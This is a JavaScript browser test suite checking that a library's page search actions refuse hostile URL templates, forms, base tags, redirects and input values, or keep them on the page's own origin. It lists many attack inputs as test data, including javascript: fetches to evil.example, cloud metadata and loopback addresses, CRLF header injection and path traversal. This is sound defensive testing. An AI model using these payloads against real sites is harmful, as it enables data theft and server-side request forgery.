// Where actions send: hostile templates, forms, redirects and values, each refused or proven to land on the page's origin.
// The page's server and one for every other host of the world record all that reaches them.
import assert from 'node:assert/strict';
import http from 'node:http';
import net from 'node:net';
import test, { after, before } from 'node:test';
import { browser, html, shipped } from './support.mjs';

const SITE = 'http://shop.example';
const REFUSED = null;
/** Hosts that the browser itself asks now and then. */
const OWN = ['*.google.com', '*.googleapis.com', '*.gstatic.com', '*.gvt1.com', '*.googleusercontent.com'];

/** Templates of a SearchAction, and what the page's server is asked for `bag` where that is allowed. */
const TEMPLATES = [
  // Plainly elsewhere.
  ['http://evil.example/s?q={q}', REFUSED],
  ['https://evil.example/s?q={q}', REFUSED],
  ['//evil.example/s?q={q}', REFUSED],
  ['https://shop.example/s?q={q}', REFUSED],
  ['http://www.shop.example/s?q={q}', REFUSED],
  ['http://shop.example.evil.example/s?q={q}', REFUSED],
  ['http://evil.example/http://shop.example/s?q={q}', REFUSED],
  ['http://evil.example?http://shop.example/{q}', REFUSED],
  ['http://evil.example#http://shop.example/{q}', REFUSED],
  ['http://shop.example.:80/s?q={q}', REFUSED],
  // Userinfo.
  ['http://shop.example@evil.example/s?q={q}', REFUSED],
  ['http://shop.example:80@evil.example/s?q={q}', REFUSED],
  ['http://user:pass@shop.example/s?q={q}', REFUSED],
  ['http://@shop.example/s?q={q}', '/s?q=bag'],
  ['http://evil.example%40shop.example/s?q={q}', REFUSED],
  ['http://shop.example%40evil.example/s?q={q}', REFUSED],
  ['http://evil.example\\@shop.example/s?q={q}', REFUSED],
  // Backslashes, slashes, white space.
  ['http:\\\\evil.example\\s?q={q}', REFUSED],
  ['\\\\evil.example/s?q={q}', REFUSED],
  ['/\\evil.example/s?q={q}', REFUSED],
  ['\\/evil.example/s?q={q}', REFUSED],
  ['http:/evil.example/s?q={q}', '/evil.example/s?q=bag'],
  ['http:evil.example/s?q={q}', '/evil.example/s?q=bag'],
  ['http:///evil.example/s?q={q}', REFUSED],
  ['///evil.example/s?q={q}', REFUSED],
  ['/\t/evil.example/s?q={q}', REFUSED],
  ['/\n/evil.example/s?q={q}', REFUSED],
  ['ht\ttp://evil.example/s?q={q}', REFUSED],
  ['http://evil.exa\nmple/s?q={q}', REFUSED],
  [' http://evil.example/s?q={q}', REFUSED],
  ['\u0001http://evil.example/s?q={q}', REFUSED],
  ['http://shop.example\t/s?q={q}', '/s?q=bag'],
  // Ports.
  ['http://shop.example:8080/s?q={q}', REFUSED],
  ['http://shop.example:443/s?q={q}', REFUSED],
  ['http://shop.example:80/s?q={q}', '/s?q=bag'],
  ['http://shop.example:080/s?q={q}', '/s?q=bag'],
  ['http://shop.example:/s?q={q}', '/s?q=bag'],
  ['http://shop.example:99999/s?q={q}', REFUSED],
  ['http://shop.example:{q}/s', REFUSED],
  // Hosts that look or resolve like others.
  ['http://SHOP.example/s?q={q}', '/s?q=bag'],
  ['http://shop.example/S?q={q}', '/S?q=bag'],
  ['http://shоp.example/s?q={q}', REFUSED],
  ['http://xn--shp-2ed.example/s?q={q}', REFUSED],
  ['http://shop。example/s?q={q}', '/s?q=bag'],
  ['http://shop.exam\u00adple/s?q={q}', '/s?q=bag'],
  ['http://ｓｈｏｐ.example/s?q={q}', '/s?q=bag'],
  ['http://shop.example\u200b.evil.example/s?q={q}', REFUSED],
  ['http://sh%6fp.example/s?q={q}', '/s?q=bag'],
  ['http://shop.example%2eevil.example/s?q={q}', REFUSED],
  ['http://shop.example%00.evil.example/s?q={q}', REFUSED],
  ['http://shop.example%23.evil.example/s?q={q}', REFUSED],
  ['http://127.0.0.1/s?q={q}', REFUSED],
  ['http://0x7f.1/s?q={q}', REFUSED],
  ['http://2130706433/s?q={q}', REFUSED],
  ['http://localhost/s?q={q}', REFUSED],
  ['http://169.254.169.254/latest?q={q}', REFUSED],
  ['http://[::1]/s?q={q}', REFUSED],
  ['http://[fe80::1%25eth0]/s?q={q}', REFUSED],
  ['http://[::ffff:127.0.0.1]/s?q={q}', REFUSED],
  // Schemes.
  ['javascript:fetch("//evil.example/"+{q})', REFUSED],
  ['JaVaScRiPt:alert({q})', REFUSED],
  ['java\tscript:alert({q})', REFUSED],
  ['data:text/html,<script>{q}</script>', REFUSED],
  ['blob:http://shop.example/{q}', REFUSED],
  ['file:///etc/{q}', REFUSED],
  ['ftp://shop.example/{q}', REFUSED],
  ['ws://shop.example/{q}', REFUSED],
  ['filesystem:http://shop.example/{q}', REFUSED],
  ['mailto:evil@evil.example?body={q}', REFUSED],
  // Variables where they could lead anywhere.
  // Relative: the page's own address stands before it.
  ['{q}', '/bag'],
  ['{+q}', REFUSED],
  ['http://{q}/s', REFUSED],
  ['http://shop.example{q}/s', REFUSED],
  ['http://{q}@shop.example/s', REFUSED],
  ['//{q}', REFUSED],
  ['/{+q}', REFUSED],
  ['/s#{q}', REFUSED],
  ['/s{#q}', REFUSED],
  // Paths.
  ['/../../../s?q={q}', '/s?q=bag'],
  ['/a/%2e%2e/s?q={q}', '/s?q=bag'],
  ['/a/..%2f..%2fs?q={q}', '/a/..%2f..%2fs?q=bag'],
  ['/a/..\\..\\s?q={q}', '/s?q=bag'],
  ['/a;/../s?q={q}', '/s?q=bag'],
  ['/s%00?q={q}', '/s%00?q=bag'],
  ['/s?u=//evil.example&q={q}', '/s?u=//evil.example&q=bag'],
  ['/s?q={q}#@evil.example', '/s?q=bag'],
  ['/s?q={q}&x=\r\nHost: evil.example', '/s?q=bag&x=Host:%20evil.example'],
  [`/s?q={q}&x=${'a'.repeat(3000)}`, REFUSED],
  ['/s?q={q', REFUSED],
  ['/s?q={{q}}', REFUSED],
  ['/s?q={q:3}', REFUSED],
  ['/s?q={=q}', REFUSED],
];

/** Pages whose frame of reference is hostile: base, form, redirect. */
const page = (head, body) => html(`${body}<script src="${SITE}/dist/toolmark.js" data-page="off"></script>`, head);
const search = (template) => `<script type="application/ld+json">${JSON.stringify({ '@context': 'https://schema.org', '@type': 'WebSite', name: 'Shop', potentialAction: { '@type': 'SearchAction', target: template, 'query-input': 'required name=q' } }).replace(/</g, '\\u003c')}</script>`;
const form = (attributes, more = '') => `<form role="search" ${attributes}><input type="search" name="q">${more}</form>`;
const PAGES = {
  'a base elsewhere': [page(`<base href="http://evil.example/">${search('s?q={q}')}`, ''), REFUSED],
  // Browsers leave such a base aside.
  'a base of another scheme': [page(`<base href="data:text/html,">${search('s?q={q}')}`, ''), '/s?q=bag'],
  'a base with a backslash': [page(`<base href="/\\evil.example/">${search('s?q={q}')}`, ''), REFUSED],
  'a form that sends elsewhere': [page('', form('action="//evil.example/s"')), REFUSED],
  'a form under a base elsewhere': [page('<base href="http://evil.example/">', form('action="s"')), REFUSED],
  'a form with a script': [page('', form('action="javascript:alert(1)"')), REFUSED],
  'a form with credentials': [page('', form('action="http://u:p@shop.example/s"')), REFUSED],
  'a form that posts': [page('', form('action="/s" method="post"')), REFUSED],
  'a form with a field called action': [page('', form('action="/s"', '<input type="hidden" name="action" value="http://evil.example/">')), '/s?q=bag&action=http%3A%2F%2Fevil.example%2F'],
  'a form whose button sends elsewhere': [page('', form('action="/s"', '<button formaction="http://evil.example/s">Go</button>')), undefined],
  'a redirect elsewhere': [page(search('/to?to=http://evil.example/&q={q}'), ''), '/to?to=http://evil.example/&q=bag'],
  'a redirect with two slashes': [page(search('/to?to=//evil.example/&q={q}'), ''), '/to?to=//evil.example/&q=bag'],
  'a redirect with a backslash': [page(search('/to?to=/%5Cevil.example/&q={q}'), ''), '/to?to=/%5Cevil.example/&q=bag'],
  'a redirect to another port': [page(search('/to?to=http://shop.example:8080/&q={q}'), ''), '/to?to=http://shop.example:8080/&q=bag'],
  'a redirect by way of here': [page(search('/to?to=/to%3Fto%3Dhttp://evil.example/&q={q}'), ''), undefined],
};

/** Values, for a variable in the query, in a path segment and in a list. */
const VALUES = [
  'http://evil.example/', '//evil.example/', '\\\\evil.example', '/\\evil.example', '@evil.example', 'x@evil.example:80/', ':80@evil.example/', '../', '../../admin', '..', '.', '%2e%2e', '%2e%2e%2fadmin',
  '..%2f', '..\\', '..;/', '/', '//', '\\', '?', '?admin=1', '&admin=1', '#', '#admin', ';admin=1', '=', 'a=b&c=d', '%', '%00', '%zz', '%0d%0aHost: evil.example', '\r\nHost: evil.example', '\n', '\t', ' ',
  '\u0000', '\u001b[2J', '\u202e', '\u200b', '\u00ad', '\ufeff', '\ud800', '\udc00x', '\u2215', '\uff0f', '\u3002', '\u2024', '\uff05', '{q}', '{+q}', '{{q}}', '${q}', '<script>', '"\'><img src=x>', '\u{e0041}', 'é', 'e\u0301', 'ß', '😀', '+', '%2B',
  'a'.repeat(400), '😀'.repeat(200),
];
const PLACES = {
  query: '/s?q={q}&r=1',
  segment: '/t/{q}/end',
  part: '/u/a{q}b/end',
  label: '/v/x{.q}/end',
  parameter: '/w/x{;q}/end',
  slash: '/x{/q}/end',
  form: '/y{?q}',
};

let site;
let world;
let context;
let flags;
const asked = [];
const strangers = [];
const counted = { pages: 0, calls: 0, requests: 0 };
let body = '';

before(async () => {
  site = http.createServer((request, response) => {
    const url = new URL(request.url, SITE);
    if (url.pathname === '/page') return response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
    if (url.pathname.startsWith('/dist/')) return response.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'max-age=3600' }).end(shipped(url.pathname));
    if (url.pathname.startsWith('/.well-known/') || url.pathname === '/favicon.ico') return response.writeHead(404).end();
    asked.push({ host: request.headers.host, url: request.url });
    if (url.pathname === '/to') return response.writeHead(302, { location: url.searchParams.get('to') }).end();
    return response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(html('<p>Found.</p>'));
  });
  // Whoever connects was sent here, whatever it would have said.
  world = net.createServer((socket) => {
    strangers.push('a connection');
    socket.on('error', () => {});
    socket.on('data', (data) => {
      strangers.push(data.toString('latin1').slice(0, 200));
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\naccess-control-allow-origin: *\r\nconnection: close\r\n\r\n');
    });
  });
  for (const server of [site, world]) await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  flags = [
    `--host-resolver-rules=MAP shop.example:80 127.0.0.1:${site.address().port},${OWN.map((host) => `MAP ${host} ~NOTFOUND`)},MAP * 127.0.0.1:${world.address().port}`,
    `--unsafely-treat-insecure-origin-as-secure=${SITE}`,
    '--no-proxy-server',
  ];
  context = await (await browser('polyfill', flags)).newContext();
});
after(async () => {
  console.log(`# ${counted.pages} pages, ${counted.calls} calls, ${counted.requests} requests recorded by the site, none elsewhere`);
  await context.close();
  site.close();
  site.closeAllConnections();
  world.close();
});

/** The page with this markup: calls its action with each value; what the page told and what the servers saw. */
async function act(markup, values) {
  body = markup;
  strangers.length = 0;
  const tab = await context.newPage();
  const errors = [];
  tab.on('pageerror', (error) => errors.push(error.message));
  await tab.goto(`${SITE}/page`);
  const told = await tab.evaluate(async () => {
    const handle = await window.toolmark.ready;
    window.action = handle.tools().find((tool) => tool.inputSchema.properties?.q);
    return { codes: handle.diagnostics().map((one) => one.code), offered: !!window.action };
  });
  const calls = [];
  for (const value of told.offered ? values : []) {
    asked.length = 0;
    const answer = await tab.evaluate((value) => window.action.execute({ q: value }), value);
    calls.push({ value, answer, asked: [...asked] });
    counted.calls += 1;
    counted.requests += asked.length;
  }
  counted.pages += 1;
  await tab.close();
  assert.deepEqual(errors, []);
  return { ...told, calls };
}

test('the trap works: what is sent elsewhere is seen', async () => {
  body = html('');
  const tab = await context.newPage();
  await tab.goto(`${SITE}/page`);
  await tab.evaluate(() => fetch('http://evil.example/there', { mode: 'no-cors' }));
  assert.match(strangers.join(), /GET \/there/);
  strangers.length = 0;
  await tab.close();
});

const landed = (what, { offered, codes, calls }, expected) => {
  assert.deepEqual(strangers, [], `${what} reached another host`);
  for (const { asked } of calls) for (const { host } of asked) assert.equal(host, 'shop.example', what);
  if (expected === REFUSED) {
    assert.deepEqual(calls.flatMap(({ asked }) => asked), [], `${what} was sent`);
    if (!offered) assert.ok(codes.length, `${what} is not offered, and nobody says why`);
  } else if (expected) {
    assert.ok(offered, `${what} is not offered: ${codes}`);
    assert.equal(calls[0].asked[0]?.url, expected, `${what}: ${JSON.stringify(calls[0].answer)}`);
  }
};

test(`${TEMPLATES.length} hostile templates`, async () => {
  const wrong = [];
  for (const [template, expected] of TEMPLATES) {
    try {
      landed(JSON.stringify(template), await act(page(search(template), ''), ['bag']), expected);
    } catch (error) {
      wrong.push(error.message);
    }
  }
  assert.deepEqual(wrong, []);
});

for (const [what, [markup, expected]] of Object.entries(PAGES)) {
  test(what, async () => {
    const told = await act(markup, ['bag']);
    if (/redirect/.test(what)) for (const { answer } of told.calls) assert.equal(answer.error?.code, 'destination_refused');
    landed(what, told, expected);
  });
}

for (const [place, template] of Object.entries(PLACES)) {
  test(`${VALUES.length} hostile values in ${template}`, async () => {
    const { calls, offered } = await act(page(search(template), ''), VALUES);
    assert.ok(offered);
    let sent = 0;
    for (const { value, answer, asked } of calls) {
      const about = `${JSON.stringify(value).slice(0, 80)} in ${template}: ${JSON.stringify({ answer, asked }).slice(0, 400)}`;
      assert.deepEqual(strangers, [], about);
      if (answer.error && asked.length === 0) {
        assert.match(answer.error.code, /^(invalid_parameter|missing_parameter|destination_refused)$/, about);
        continue;
      }
      sent += 1;
      assert.equal(asked.length, 1, about);
      const [{ host, url }] = asked;
      assert.equal(host, 'shop.example', about);
      assert.doesNotMatch(url, /[\0-\x20\x7f-\uffff"<>\\^`{|}]/, about);
      // As the browser's own parser sees it: the value is one value in its place.
      const parsed = new URL(url, SITE);
      const [before, after = ''] = template.split(/\{[^}]*\}/);
      const wellFormed = value.toWellFormed?.() ?? value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, '\ufffd');
      if (before.includes('?') || place === 'form') {
        assert.equal(parsed.pathname, before.split('?')[0], about);
        assert.deepEqual([...parsed.searchParams.keys()], before.includes('?') ? ['q', 'r'] : ['q'], about);
        assert.equal(parsed.searchParams.get('q'), wellFormed, about);
      } else {
        assert.ok(parsed.pathname.startsWith(before.split('?')[0]) && parsed.pathname.endsWith(after), about);
        assert.equal(parsed.search, '', about);
        const segments = (text) => text.split('/').length;
        assert.equal(segments(parsed.pathname), segments(before + after) + (place === 'slash'), about);
      }
    }
    // Dots alone would climb, and nothing is no value; the rest must get through, or nothing is shown here.
    assert.ok(sent > VALUES.length * 0.8, `only ${sent} of ${VALUES.length} values were sent`);
  });
}
